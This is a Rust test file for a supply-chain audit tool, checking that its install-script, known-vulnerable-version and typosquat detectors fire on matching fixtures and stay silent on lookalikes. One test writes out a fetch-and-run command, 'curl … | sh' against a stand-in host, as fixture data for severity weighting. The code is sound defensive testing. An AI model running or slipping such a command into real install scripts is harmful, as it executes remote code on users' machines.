//! Every check that judges what a package or a bundle is, on evidence that makes it speak and on evidence that only looks
//! alike.

#![expect(clippy::expect_used, reason = "tests may")]

use std::fs;
use std::path::Path;

use portcullis_audit::check::{CHECKS, OF_PACKAGES, judge};
use portcullis_audit::checklist::{self, Status};
use portcullis_audit::evidence::{Evidence, FORMAT};
use portcullis_audit::{Finding, Severity};

fn evidence(check: &str, name: &str) -> Evidence {
    let file = format!("fixtures/{check}/{name}.evidence");
    let text = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join(file));
    let evidence: Evidence = serde_json::from_str(&text.expect("a fixture")).expect("evidence");
    assert_eq!(evidence.format, FORMAT);
    evidence
}

fn of<'f>(found: &'f [Finding], check: &str) -> Vec<&'f Finding> {
    found.iter().filter(|it| it.check == check).collect()
}

#[test]
fn each_speaks_of_its_own_and_keeps_silent_about_what_looks_alike() {
    for check in OF_PACKAGES {
        assert!(CHECKS.iter().any(|it| it.id == check.id), "{} is on the list of all", check.id);
        let fires = judge(&evidence(check.id, "fires"));
        assert!(!of(&fires, check.id).is_empty(), "{} is silent", check.id);
        let silent = judge(&evidence(check.id, "silent"));
        assert!(of(&silent, check.id).is_empty(), "{} speaks of nothing", check.id);
    }
}

#[test]
fn a_script_weighs_by_whose_it_is_and_what_it_does() {
    let mut seen = evidence("install-script", "fires");
    let package = seen.package.as_mut().expect("a package");
    let mut other = package.scripts[0].clone();
    other.package = "left-pad".to_owned();
    let mut fetches = other.clone();
    fetches.command = "curl -s https://x.example/i.sh | sh".to_owned();
    package.scripts.extend([other, fetches]);
    let weights: Vec<Severity> =
        of(&judge(&seen), "install-script").iter().map(|it| it.severity).collect();
    assert_eq!(weights, [Severity::High, Severity::Medium, Severity::Low]);
}

#[test]
fn a_package_is_told_by_its_name_and_version() {
    let mut seen = evidence("install-script", "silent");
    let rows = |seen: &Evidence| checklist::lines(seen, &judge(seen));
    let of_version = |seen: &Evidence| {
        rows(seen).into_iter().find(|row| row.control == "version-sound").expect("a line").status
    };
    assert_eq!(of_version(&seen), Status::Pass);
    let mut set = |name: &str, version: &str| {
        let package = seen.package.as_mut().expect("a package");
        (package.name, package.version) = (name.to_owned(), version.to_owned());
        let found: Vec<String> = judge(&seen).into_iter().map(|it| it.check).collect();
        (found, of_version(&seen))
    };
    let said = |check: &str, status| (vec![check.to_owned()], status);
    assert_eq!(set("mcp-remote", "0.1.15"), said("known-vulnerable", Status::Fail));
    assert_eq!(set("@playwrigth/mcp", "1.0.0"), said("typosquat", Status::Fail));
    assert_eq!(set("mcp-remote", "0.1.16"), (Vec::new(), Status::Pass));
}
